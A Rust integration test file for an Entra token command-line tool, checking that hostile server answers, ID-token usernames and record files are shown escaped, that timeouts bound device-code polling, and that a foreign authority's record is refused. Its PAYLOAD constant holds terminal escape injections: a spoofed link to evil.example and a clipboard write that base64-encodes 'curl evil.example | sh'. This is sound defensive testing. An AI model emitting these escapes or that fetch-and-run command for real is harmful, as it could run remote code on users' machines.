//! The `entra` command against a hostile authority (entra-testing's `MockEntra` on
//! `https://localhost:PORT`, reached with `SSL_CERT_FILE`, answers replaced by faults) and a
//! hostile record file (issue 20.3, 20.4, 20.5): text that the server or a file controls
//! reaches the terminal escaped, the configured timeout bounds the device-code wait, and a
//! record of another authority is refused.
// Test helpers stop loudly, like the tests themselves.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use entra_testing::{Endpoint, Fault, FaultTimes, MockEntra, TestUser};

mod common;

use std::path::Path;

use common::{Run, entra, entra_approving, signing_mock};

const SCOPE: &str = "https://graph.microsoft.com/.default";

/// OSC 8 (a fake devicelogin link), OSC 52 (write the clipboard), OSC 0 (window title), CSI
/// (clear the screen), C1 CSI and a right-to-left override: none may reach the terminal raw.
const PAYLOAD: &str = "\u{1b}]8;;https://evil.example/\u{1b}\\https://microsoft.com/devicelogin\u{1b}]8;;\u{1b}\\ \
     \u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m\u{202e}";

/// Nothing a terminal would act on is in the output, and the payload is shown escaped.
trait ShownEscaped {
    fn assert_shown_escaped(&self);
}

impl ShownEscaped for Run {
    fn assert_shown_escaped(&self) {
        self.assert_nothing_raw();
        assert!(
            self.stderr.contains("\\u{1b}]8;;https://evil.example/"),
            "the payload is shown escaped:\n{}",
            self.stderr
        );
    }
}

/// A hostile authority: the mock on localhost with `faults`, and its root certificate in a file.
async fn hostile(faults: Vec<(Endpoint, Fault)>) -> (MockEntra, tempfile::TempDir) {
    let mut builder = MockEntra::builder();
    for (endpoint, fault) in faults {
        builder = builder.fault_times(endpoint, fault, FaultTimes::Always);
    }
    let mock = builder.start().await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("ca.pem"),
        mock.ca_certificate_pem().unwrap(),
    )
    .unwrap();
    (mock, dir)
}

/// `entra get-token --device-code` against the hostile `mock` (no cache, no instance
/// discovery), with `extra` flags.
async fn device_code_run(mock: &MockEntra, dir: &Path, extra: &[&str]) -> Run {
    let authority = mock.base_url();
    let mut args = vec![
        "get-token",
        "--scope",
        SCOPE,
        "--authority",
        &authority,
        "--disable-instance-discovery",
        "--no-cache",
        "--device-code",
    ];
    args.extend_from_slice(extra);
    entra(dir, Some(&dir.join("ca.pem")), &args).await
}

fn json_fault(status: u16, body: &serde_json::Value) -> Fault {
    Fault::Response {
        status,
        content_type: "application/json".to_owned(),
        body: body.to_string(),
    }
}

/// Issue 20.3 and 20.4: a device code answer whose `message` carries terminal escapes and
/// whose `expires_in` is a billion seconds. `--timeout 3` ends the wait (with a last poll at
/// the deadline), not the server's lifetime, and the message reaches the terminal escaped.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_device_code_answer_is_shown_escaped_and_the_timeout_bounds_the_wait() {
    let (mock, dir) = hostile(vec![
        (
            Endpoint::DeviceCode,
            json_fault(
                200,
                &serde_json::json!({
                    "device_code": "DC",
                    "user_code": "ABCD-EFGH",
                    "verification_uri": "https://microsoft.com/devicelogin",
                    "expires_in": 1_000_000_000u64,
                    "interval": 1,
                    "message": format!("To sign in, open {PAYLOAD} and enter ABCD-EFGH."),
                }),
            ),
        ),
        (
            Endpoint::Token,
            json_fault(
                400,
                &serde_json::json!({"error": "authorization_pending", "error_description": "AADSTS70016: pending"}),
            ),
        ),
    ])
    .await;
    let run = device_code_run(&mock, dir.path(), &["--timeout", "3"]).await;
    assert_eq!(run.code, Some(4), "stderr:\n{}", run.stderr);
    assert!(
        run.error_line()
            .contains("Timed out after waiting 3 seconds"),
        "{}",
        run.error_line()
    );
    run.assert_shown_escaped();
    // Polls at 0, 1, 2 and 3 s: the last one at the deadline.
    assert_eq!(mock.count(Endpoint::Token), 4, "stderr:\n{}", run.stderr);
}

/// Issue 20.3: an `error_description` carrying terminal escapes, in the error line.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_error_description_is_shown_escaped() {
    let (mock, dir) = hostile(vec![(
        Endpoint::Token,
        json_fault(
            400,
            &serde_json::json!({"error": "invalid_grant", "error_description": format!("AADSTS70000: {PAYLOAD}")}),
        ),
    )])
    .await;
    let run = device_code_run(&mock, dir.path(), &["--timeout", "30"]).await;
    assert_eq!(run.code, Some(4), "stderr:\n{}", run.stderr);
    assert!(
        run.error_line().contains("AADSTS70000"),
        "{}",
        run.error_line()
    );
    run.assert_shown_escaped();
}

/// Issue 20.3: a metadata document whose `issuer` carries terminal escapes, quoted in the
/// mismatch error.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_issuer_is_shown_escaped_in_the_mismatch_error() {
    let (mock, dir) = hostile(vec![]).await;
    let url = format!(
        "{}/organizations/v2.0/.well-known/openid-configuration",
        mock.base_url()
    );
    let mut document: serde_json::Value = mock
        .http_client()
        .get(&url)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    document["issuer"] = format!("https://evil.example/{PAYLOAD}").into();
    mock.inject_fault(Endpoint::OpenIdConfiguration, json_fault(200, &document));
    let run = device_code_run(&mock, dir.path(), &[]).await;
    assert_ne!(run.code, Some(0), "stderr:\n{}", run.stderr);
    assert!(run.error_line().contains("issuer"), "{}", run.error_line());
    run.assert_shown_escaped();
}

/// An account record as `--record` reads it.
fn record(username: &str, environment: &str) -> String {
    serde_json::json!({
        "authority": environment,
        "clientId": "04b07795-8ddb-461a-bbee-02f9e1bf7b46",
        "homeAccountId": "oid.11111111-2222-4333-8444-555555555555",
        "tenantId": "11111111-2222-4333-8444-555555555555",
        "username": username,
        "version": "1.0",
    })
    .to_string()
}

/// Issue 20.3: a record file's username carrying terminal escapes, printed when the command
/// says which account it uses.
#[tokio::test]
async fn a_hostile_username_in_a_record_file_is_shown_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("record.json");
    std::fs::write(
        &path,
        record(
            &format!("{PAYLOAD}alice@contoso.com"),
            "login.microsoftonline.com",
        ),
    )
    .unwrap();
    let run = entra(
        dir.path(),
        None,
        &[
            "get-token",
            "--scope",
            SCOPE,
            "--record",
            path.to_str().unwrap(),
            "--no-cache",
            "--no-prompt",
            "-v",
        ],
    )
    .await;
    assert_eq!(run.code, Some(5), "stderr:\n{}", run.stderr);
    assert!(run.stderr.contains("alice@contoso.com"), "{}", run.stderr);
    run.assert_shown_escaped();
}

/// Issue 20.5: `--record` of another authority than `--authority` names: refused before any
/// request, naming both hosts and the flags to change; the record file is left as it is.
#[tokio::test]
async fn a_record_of_another_authority_is_refused_and_left_as_it_is() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("record.json");
    let text = record("alice@contoso.com", "login.evil.example");
    std::fs::write(&path, &text).unwrap();
    let run = entra(
        dir.path(),
        None,
        &[
            "get-token",
            "--scope",
            SCOPE,
            "--record",
            path.to_str().unwrap(),
            "--authority",
            "login.microsoftonline.com",
            "--no-cache",
        ],
    )
    .await;
    assert_eq!(run.code, Some(2), "stderr:\n{}", run.stderr);
    let line = run.error_line();
    for part in [
        "login.evil.example",
        "login.microsoftonline.com",
        "--authority",
        "--record",
    ] {
        assert!(line.contains(part), "{part}: {line}");
    }
    assert_eq!(std::fs::read_to_string(&path).unwrap(), text);
}

/// Issue 20.3: an ID token's `preferred_username` carrying terminal escapes is stored as the
/// account's name (kept exactly, as data) and shown escaped wherever the command prints it:
/// after signing in, when a later run uses the cache's account, in `accounts`' JSON and in
/// `sign-out`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_username_from_the_id_token_is_shown_escaped_wherever_it_is_printed() {
    let hostile = format!("{PAYLOAD}mallory@contoso.com");
    let user = TestUser::new(hostile.clone(), entra_testing::DEFAULT_TENANT_ID);
    let (mock, dir) = signing_mock(user.clone()).await;
    let ca = dir.path().join("ca.pem");
    let base = mock.base_url();
    let name = format!("entra-hostile-{}", std::process::id());
    let cache = ["--cache-name", name.as_str(), "--allow-unencrypted-storage"];
    let mut get = vec![
        "get-token",
        "--scope",
        SCOPE,
        "--authority",
        &base,
        "--disable-instance-discovery",
        "--device-code",
    ];
    get.extend(cache);
    let signed_in = entra_approving(dir.path(), &ca, &get, &mock, &user).await;
    assert_eq!(signed_in.code, Some(0), "stderr:\n{}", signed_in.stderr);
    signed_in.assert_nothing_raw();

    let mut verbose = get.clone();
    verbose.push("-v");
    let again = entra(dir.path(), Some(&ca), &verbose).await;
    assert_eq!(again.code, Some(0), "stderr:\n{}", again.stderr);
    assert!(
        again
            .stderr
            .contains("Using the account in the token cache: \\u{1b}"),
        "{}",
        again.stderr
    );
    again.assert_shown_escaped();

    // Only the authority's accounts are listed, as get-token picks from them.
    let mut elsewhere = vec!["accounts"];
    elsewhere.extend(cache);
    let none = entra(dir.path(), None, &elsewhere).await;
    assert_eq!(none.code, Some(0), "stderr:\n{}", none.stderr);
    assert_eq!(
        none.stdout.trim(),
        "[]",
        "another authority's account was listed"
    );
    let mut accounts = vec!["accounts", "--authority", &base];
    accounts.extend(cache);
    let listed = entra(dir.path(), None, &accounts).await;
    assert_eq!(listed.code, Some(0), "stderr:\n{}", listed.stderr);
    let raw: Vec<char> = listed
        .stdout
        .chars()
        .filter(|&c| entra_core::is_unsafe_for_terminal(c))
        .collect();
    assert!(raw.is_empty(), "{raw:?}");
    let json: serde_json::Value = serde_json::from_str(&listed.stdout).unwrap();
    assert_eq!(json[0]["username"], hostile, "the data itself is kept");

    let mut sign_out = vec!["sign-out", "--authority", &base];
    sign_out.extend(cache);
    let out = entra(dir.path(), None, &sign_out).await;
    assert_eq!(out.code, Some(0), "stderr:\n{}", out.stderr);
    out.assert_shown_escaped();
}

/// Issue 25, in fresh processes: after a run with `--claims` (a resource's challenge), a
/// plain run gets the token that run got, from the persistent cache, with no request.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn after_a_claims_run_the_next_plain_process_gets_the_new_token() {
    const CLAIMS: &str = r#"{"access_token":{"nbf":{"essential":true,"value":"1726077595"}}}"#;
    let user = TestUser::new("alice@contoso.com", entra_testing::DEFAULT_TENANT_ID);
    let (mock, dir) = signing_mock(user.clone()).await;
    let ca = dir.path().join("ca.pem");
    let base = mock.base_url();
    let name = format!("entra-claims-{}", std::process::id());
    let get = [
        "get-token",
        "--scope",
        SCOPE,
        "--authority",
        &base,
        "--disable-instance-discovery",
        "--device-code",
        "--cache-name",
        &name,
        "--allow-unencrypted-storage",
    ];
    let token = |run: &Run| -> String {
        assert_eq!(run.code, Some(0), "stderr:\n{}", run.stderr);
        let json: serde_json::Value = serde_json::from_str(run.stdout.trim()).unwrap();
        json["accessToken"].as_str().unwrap().to_owned()
    };
    let revoked = token(&entra_approving(dir.path(), &ca, &get, &mock, &user).await);
    let mut with_claims = get.to_vec();
    with_claims.extend(["--claims", CLAIMS]);
    let fresh = token(&entra(dir.path(), Some(&ca), &with_claims).await);
    assert_ne!(fresh, revoked);
    let refresh = mock.last_request(Endpoint::Token).unwrap();
    assert_eq!(refresh.form_param("claims"), Some(CLAIMS));

    mock.clear_log();
    let plain = token(&entra(dir.path(), Some(&ca), &get).await);
    assert_eq!(plain, fresh, "the revoked token was served again");
    assert_eq!(mock.total_requests(), 0);
    let sign_out = [
        "sign-out",
        "--authority",
        &base,
        "--cache-name",
        name.as_str(),
        "--allow-unencrypted-storage",
    ];
    assert_eq!(entra(dir.path(), None, &sign_out).await.code, Some(0));
}
